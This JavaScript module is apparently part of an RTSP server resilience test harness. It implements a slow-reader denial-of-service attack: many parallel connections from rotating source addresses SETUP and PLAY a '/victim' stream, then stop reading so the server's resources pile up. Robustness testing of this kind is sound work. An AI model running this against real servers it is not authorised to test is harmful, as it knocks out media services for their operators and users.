/** Viewers that play, and then read nothing any more. */
import { RtspPeer, sessionIdOf } from '../support/rtsp-peer.mjs'
import { attackerAddress, authorityOf, inParallel, stopped } from './addresses.mjs'

export async function attack({ host, port, connections, addresses }, stage) {
  const url = `rtsp://${authorityOf({ host, port })}/victim`
  const counts = { playing: 0, refused: 0, closed: 0 }
  const play = async (number) => {
    try {
      const localAddress = attackerAddress(number % addresses)
      const peer = await RtspPeer.connect({ host, port, localAddress })
      const Transport = 'RTP/AVP/TCP;unicast;interleaved=0-1'
      const answer = await peer.expectOk('SETUP', `${url}/trackID=0`, { Transport })
      await peer.expectOk('PLAY', url, { Session: sessionIdOf(answer) })
      peer.socket.pause()
      peer.socket.on('close', () => counts.closed++)
      counts.playing++
    } catch {
      counts.refused++
    }
  }
  await inParallel(connections, 20, stage.signal, play)
  stage.standing()
  await stopped(stage.signal)
  return counts
}
